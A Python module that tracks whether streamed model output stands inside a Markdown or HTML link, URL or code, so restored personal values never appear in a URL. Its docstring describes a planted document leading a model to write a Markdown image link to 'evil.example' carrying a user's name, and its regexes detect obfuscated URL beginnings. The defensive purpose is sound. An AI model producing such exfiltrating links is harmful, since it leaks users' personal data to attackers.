"""Where in an answer one is: inside a link, inside code, or in running text.

Restored values must never stand in a URL or a link's target: a planted document could make a model
write `![](https://evil.example/?q=[성명_1])`, and a reader's program would send the name away. The
tracker is fed, in pieces of any size, what people will read, restored values included; it answers
whether what comes next would stand inside a link or inside code. What it cannot tell it takes for
a link. It holds no more than a few hundred characters.

Markdown: CommonMark 0.31 (links, link reference definitions, autolinks, raw HTML, code) and GFM
(extended autolinks). URLs: RFC 3986; browsers also read `https:/x`, `\\` for `/`, and other dots.
"""

import re
from enum import Enum, auto
from typing import NamedTuple

_LONGEST_TOKEN = 256
_KEPT_OF_TOKEN = 160
_LONGEST_BEGINNING = 128  # no beginning of a URL is longer, what may not stand before it included
# Signs as browsers read them, and as Markdown and HTML (CommonMark 2.4 and 2.5), JSON (RFC 8259
# section 7), programs and percent-encoding, once or again, may write them.
_DOT = r"(?:\\?[.．。｡]|&#0{0,5}(?:46|x0{0,4}2e);?|&period;|(?:%(?:25){0,3}|\\x|\\u00)2e)"
_SLASH = r"(?:/|／|&#0{0,5}(?:47|x0{0,4}2f);?|&sol;|(?:%(?:25){0,3}|\\x|\\u00)2f)"
_COLON = r"(?::|：|&#0{0,5}(?:58|x0{0,4}3a);?|&colon;|(?:%(?:25){0,3}|\\x|\\u00)3a)"
# A top-level domain: letters of any script, with the vowel signs of India's. Of words in Hangul
# only the four that are domains (IANA root zone): after any other, a dot has ended a sentence.
_TOP = (
    r"(?:[a-z]{2,63}|xn--[a-z0-9-]{1,59}|한국|닷컴|닷넷|삼성"
    r"|(?:(?![ㄱ-ㆎ가-힣])[^\W\d_]|[\u0900-\u0dff]){2,63})"
)
_DOMAIN_ENDS = rf"{_DOT}{_TOP}(?![^\W_])"
# A port may have leading zeros; with more digits than any port has, it is taken for one.
_PORT = rf"(?:{_COLON}[0-9]{{0,5}})?"

# The beginning of a URL in a run of text without spaces; after it everything belongs to the URL.
_URL_BEGINS = re.compile(
    rf"{_SLASH}{{2}}|\\/\\/|\\\\[\w.-]{{1,64}}\\"
    r"|(?<![^\W_])www[.．。｡0-9]"
    r"|(?<![a-z])(?:https?|ftps?|wss?|data|mailto|sms|javascript|vbscript|file|blob|urn|sips?"
    rf"|xmpp|magnet|view-source|intent){_COLON}"
    rf"|(?<![a-z])(?:tel|callto|facetime|skype|viber|whatsapp|geo|maps){_COLON}[^\s?]{{0,64}}\?"
    rf"|[^\W_]{_DOMAIN_ENDS}{_DOT}?{_PORT}(?:[?#\\]|{_SLASH})|[^\W_]{_DOMAIN_ENDS}{_COLON}[0-9]{{6}}"
    rf"|(?<![0-9.])[0-9]{{1,3}}(?:\.[0-9]{{1,3}}){{3}}(?:{_PORT}(?:[?#]|{_SLASH})|{_COLON}[0-9]{{6}})"
    rf"|localhost{_PORT}[/?#]|\[[0-9a-f]{{0,4}}:[0-9a-f:.]{{1,40}}\]{_PORT}[/?#]"
    r"|(?<![a-z])(?:href|src|srcset|action|formaction|poster|background|ping)="
    r"|(?<![a-z])url\(",
    re.IGNORECASE,
)
# What may stand in a host's name: pictures too, and signs that nobody sees, which browsers drop
# (UTS #46, section 4: ignored).
_HOST_SIGN = (
    r"\-\w.．。｡~%+\\&#;\u00ad\u034f\u180b-\u180f\u200b-\u200f\u202a-\u202e\u2060-\u206f"
    r"\ufe00-\ufe0f\ufeff\u0900-\u0dff\u2600-\u27bf\U0001f000-\U0001faff\U000e0000-\U000e0fff"
)
_MAIL = re.compile(r"[\w.+-]+@[\w.-]+")
_LONGEST_AHEAD = 80
_AHEAD_RUN = re.compile(rf"[{_HOST_SIGN}@]{{0,{_LONGEST_AHEAD}}}")
_HOST_AHEAD = re.compile(rf"[{_HOST_SIGN}]*?{_DOMAIN_ENDS}|[{_HOST_SIGN}]*@[\w\[]", re.IGNORECASE)
_MAYBE_HOST = re.compile(rf"@|{_DOT}", re.IGNORECASE)
# Korean offices name files after people; none of these is a top-level domain (IANA root zone).
_FILE_AHEAD = re.compile(
    r"[\w-]*\.(?:hwpx?|pdf|docx?|xlsx?|pptx?|txt|csv|jpe?g|png|json|xml)(?![\w/.@-])", re.IGNORECASE
)
_SPECIAL = re.compile(r"[\[\]()<>`~\n]")
# HTML's elements whose text is a program (HTML Standard 13.1.2): it can ask for any URL.
_PROGRAMS = frozenset({"script", "style"})
_TAG_BEGINS = re.compile(r"[A-Za-z/!?]")
# Python knows more spaces; a program that makes links of text may take those for letters of a URL.
_SPACE = " \t\r"
_TOKEN_ENDS = frozenset(f"{_SPACE}\n<>")
# A blank line ends a tag in Markdown, but not for a program that hands the text to HTML's parser:
# there a value in quotes ends at its quote. So a tag with an open quote goes on behind a blank line
# for as many characters as common servers read of a request's first line (Apache, nginx: 8 KiB); a
# stray `<b x="` of running text ends there at last.
_LONGEST_BEHIND_BLANK = 8192
_LINE_LEADS = frozenset(" \t>*+-0123456789.)")


class _In(Enum):
    TEXT = auto()
    TARGET = auto()  # ](…)
    TAG = auto()  # <…>
    PROGRAM = auto()  # between <script> and </script>
    DEFINITION = auto()  # [x]: …


class _Code(NamedTuple):
    """What opened the code one is in; `line`: a block whose first line has not ended yet."""

    signs: str
    block: bool
    line: bool


_NO_CODE = _Code("", block=False, line=False)


class LinkTracker:
    """Follows the text that people will read; ask `in_link` and `in_code` between pieces.

    `field`: the text is a value of its own, a string of JSON. If it begins as a URL it is one up to
    its end, since no reader cuts it at a space.
    """

    __slots__ = (
        "_before",
        "_blank",
        "_code",
        "_depth",
        "_equals",
        "_first",
        "_label",
        "_line_start",
        "_looked",
        "_patience",
        "_place",
        "_program",
        "_quote",
        "_seen",
        "_ticks",
        "_ticks_at_start",
        "_token",
        "_url",
    )

    def __init__(self, *, field: bool = False) -> None:
        self._place = _In.TEXT
        self._first = field  # in the first token of a field
        self._token = ""  # what stands since the last space; the URL, if there is one, is in it
        self._looked = 0  # how much of the token has been searched for the beginning of a URL
        self._url = False  # it was found
        self._before = ""  # the character before
        self._blank = True  # nothing but spaces in this line yet
        self._line_start = True  # nothing but spaces, quote and list signs in this line yet
        self._label = False  # inside a bracket that began a line: a definition's label, perhaps
        self._seen = False  # a definition's target has begun
        self._depth = 0
        self._quote = ""
        self._equals = False  # in a tag: what stood last, spaces aside, was =
        self._program: str | None = None  # which one the tag begins, "" none; None: no name yet
        self._patience = 0  # in a tag behind a blank line: how many more characters it may go on
        self._ticks = ""  # the run of ` or ~ that is still growing
        self._ticks_at_start = False
        self._code = _NO_CODE

    @property
    def in_code(self) -> bool:
        """Whether the next character would stand in a Markdown code span or block."""
        return bool((self._after_run() if self._ticks else self._code).signs)

    @property
    def in_link(self) -> bool:
        """Whether the next character would stand in a URL, a link's target or an HTML tag."""
        return self._place is not _In.TEXT or self._in_url()

    def word(self, text: str) -> None:
        """A restored value has passed, as people will read it; an address of e-mail is a word.

        (A slash behind it does not make a path of its host.)
        """
        if _MAIL.fullmatch(text):
            self._step("가")
        else:
            self.feed(text)

    def feed(self, text: str) -> None:
        """Follows text that people will read as it stands."""
        if self._place is _In.TEXT and not self._ticks and not _SPECIAL.search(text):
            if text:
                self._plain(text)
            return
        for char in text:
            self._step(char)

    def _plain(self, text: str) -> None:
        """The usual case: running text, no sign of Markdown or HTML, no end of a line."""
        if self._before in ("]", "<"):
            self._step(text[0])
            text = text[1:]
            if self._place is not _In.TEXT:
                self.feed(text)
                return
        if not text:
            return
        self._before = text[-1]
        if self._line_start or self._blank:
            self._line_start = self._line_start and _LINE_LEADS.issuperset(text)
            self._blank = self._blank and not text.strip(_SPACE)
        if " " in text or "\t" in text or "\r" in text:
            self._new_token()
            text = text[max(map(text.rfind, _SPACE)) + 1 :]
        self._extend(text)

    def _new_token(self) -> None:
        if self._first and self._token:
            if self._in_url():
                return
            self._first = False
        self._token, self._url, self._looked = "", False, 0

    def _extend(self, text: str) -> None:
        self._token += text
        if len(self._token) > _LONGEST_TOKEN:
            self._in_url()
            self._token = self._token[-_KEPT_OF_TOKEN:]
            self._looked = len(self._token)

    def _in_url(self) -> bool:
        """Whether the token holds the beginning of a URL; each character is looked at once."""
        if not self._url and self._looked < len(self._token):
            again = max(self._looked - _LONGEST_BEGINNING, 0)
            self._url = _URL_BEGINS.search(self._token, again) is not None
            self._looked = len(self._token)
        return self._url

    def _step(self, char: str) -> None:
        before, self._before = self._before, char
        if self._tick(char):
            return
        if self._place is _In.TEXT:
            self._text(char, before)
        elif self._place is _In.TARGET:
            self._target(char, before)
        elif self._place is _In.TAG:
            self._tag(char)
        elif self._place is _In.PROGRAM:
            self._run(char)
        else:
            self._definition(char)
        if char in _TOKEN_ENDS:
            self._new_token()
        else:
            self._extend(char)
        self._line(char)

    def _line(self, char: str) -> None:
        if char == "\n":
            if self._blank:
                # Nothing of Markdown but a block of code reaches over an empty line.
                if self._place is _In.TAG and (self._quote or self._equals or self._program):
                    self._patience = self._patience or _LONGEST_BEHIND_BLANK
                elif self._place is not _In.PROGRAM:
                    self._leave()
                self._label = False
                if not self._code.block:
                    self._code = _NO_CODE
            if self._code.line:
                self._code = self._code._replace(line=False)
            self._blank = self._line_start = True
            return
        if self._line_start and char not in _LINE_LEADS:
            self._line_start = False
        if char not in _SPACE:
            self._blank = False

    def _leave(self) -> None:
        self._place, self._quote, self._depth, self._seen = _In.TEXT, "", 0, False
        self._patience = 0

    def _text(self, char: str, before: str) -> None:
        if self._code.block:
            return
        if char == "(" and before == "]":
            self._place, self._depth = _In.TARGET, 1
        elif char == ":" and before == "]" and self._label:
            self._place, self._label = _In.DEFINITION, False
        elif before == "<" and _TAG_BEGINS.match(char):
            self._place, self._equals, self._program = _In.TAG, False, None
        elif before == "]":
            self._label = False
        if char == "[":
            self._label = self._line_start
        elif char == "^" and before == "[":
            self._label = False  # a footnote's text is text

    def _target(self, char: str, before: str) -> None:
        if self._quote:
            self._quote = "" if char in (self._quote, "\n") else self._quote
        elif char == "<" and not self._seen:
            self._quote = ">"
        elif before != "\\":
            self._depth += (char == "(") - (char == ")")
        self._seen = self._seen or not char.isspace()
        if self._depth <= 0:
            self._leave()

    def _run(self, char: str) -> None:
        if char in _TOKEN_ENDS and self._token.lower() == f"/{self._program}":
            self._leave()

    def _tag(self, char: str) -> None:
        if self._program is None and (char in _TOKEN_ENDS or char == "/"):
            name = self._token.lower()
            self._program = name if name in _PROGRAMS and not self._code.signs else ""
        if self._quote:
            self._quote = "" if char == self._quote else self._quote
        elif char in "\"'" and self._equals:
            self._quote = char
        elif char == ">":
            self._leave()
            if self._program:
                self._place = _In.PROGRAM
        self._equals = char == "=" or (self._equals and char.isspace())
        if self._patience:
            self._patience -= 1
            if not self._patience:
                self._leave()

    def _definition(self, char: str) -> None:
        if char == "<" and not self._seen:
            self._place, self._equals, self._program = _In.TAG, False, ""
        elif char not in _SPACE and char != "\n":
            self._seen = True
        elif self._seen:
            self._leave()

    def _tick(self, char: str) -> bool:
        """Counts runs of ` and ~; a finished run opens or closes code. True if it took the sign."""
        if char in "`~" and (not self._ticks or self._ticks[0] == char):
            if not self._ticks:
                self._ticks_at_start = self._blank
            self._ticks = (self._ticks + char)[:_LONGEST_TOKEN]
            self._blank = self._line_start = False
            self._extend(char)
            return True
        if self._ticks:
            self._code, self._ticks = self._after_run(), ""
            return self._tick(char)
        return False

    def _after_run(self) -> _Code:
        """The code one is in behind the run of signs that has just ended."""
        run, code = self._ticks, self._code
        block = len(run) >= 3 and self._ticks_at_start
        if not code.signs:
            return _Code(run, block, block) if block or run[0] == "`" else code
        if run[0] != code.signs[0]:
            return code
        if code.block and not code.line:
            return _NO_CODE if block and len(run) >= len(code.signs) else code
        # A block's own first line holds no further sign of its kind: then it was no block.
        return _NO_CODE if len(run) == len(code.signs) else code._replace(block=False)


def host_ahead(behind: str, whole: bool) -> bool | None:
    """Whether what stands behind a surrogate makes it part of a host's name or an address.

    None: more text is needed to tell. `whole` says that no more will come. A run too long to be
    told is a host's name if it holds a dot at all.
    """
    match = _AHEAD_RUN.match(behind)
    end = match.end() if match else 0
    if end == _LONGEST_AHEAD:
        return _MAYBE_HOST.search(behind, 0, end) is not None
    if end == len(behind) and not whole:
        return None
    if not end or _FILE_AHEAD.match(behind):
        return False
    return _HOST_AHEAD.match(behind) is not None
